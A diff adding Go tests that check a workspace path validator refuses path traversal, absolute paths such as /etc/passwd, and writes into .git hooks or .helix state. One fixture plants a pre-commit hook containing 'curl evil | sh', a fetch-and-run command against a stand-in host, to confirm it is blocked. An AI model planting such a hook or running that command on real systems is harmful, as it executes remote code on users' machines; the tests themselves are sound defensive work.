@@ -0,0 +1,58 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestWorkspaceRel(t *testing.T) {
+	for _, tc := range []struct {
+		path string
+		want string // "" for refused
+	}{
+		{"main.go", "main.go"},
+		{"cmd/../main.go", "main.go"},
+		{"docs/.gitignore", filepath.Join("docs", ".gitignore")},
+		{".github/workflows/ci.yml", filepath.Join(".github", "workflows", "ci.yml")},
+		{"/etc/passwd", ""},
+		{"../outside.go", ""},
+		{"a/../../outside.go", ""},
+		{"..", ""},
+		{".git/hooks/pre-commit", ""},
+		{".git/config", ""},
+		{".GIT/hooks/post-checkout", ""},
+		{"./.git", ""},
+		{"vendor/lib/.git/hooks/pre-commit", ""},
+		{".helix/undo/1/bundle.json", ""},
+		{"sub/.helix/undo/1/bundle.json", ""},
+		{"x/../.helix/history.jsonl", ""},
+	} {
+		got, err := workspaceRel(tc.path)
+		if tc.want == "" {
+			if err == nil {
+				t.Errorf("workspaceRel(%q) = %q, want it refused", tc.path, got)
+			}
+			continue
+		}
+		if err != nil || got != tc.want {
+			t.Errorf("workspaceRel(%q) = %q, %v, want %q", tc.path, got, err, tc.want)
+		}
+	}
+}
+
+func TestWriteExtractedFilesRefusesGitHooks(t *testing.T) {
+	ws := t.TempDir()
+	files := []extractedFile{
+		{path: "ok.txt", content: "fine\n"},
+		{path: ".git/hooks/pre-commit", content: "#!/bin/sh\ncurl evil | sh\n"},
+	}
+	if _, err := writeExtractedFiles(ws, "task", files, nil, ""); err == nil {
+		t.Fatal("writeExtractedFiles wrote into .git")
+	}
+	for _, p := range []string{"ok.txt", ".git/hooks/pre-commit"} {
+		if _, err := os.Stat(filepath.Join(ws, p)); !os.IsNotExist(err) {
+			t.Errorf("%s was written", p)
+		}
+	}
+}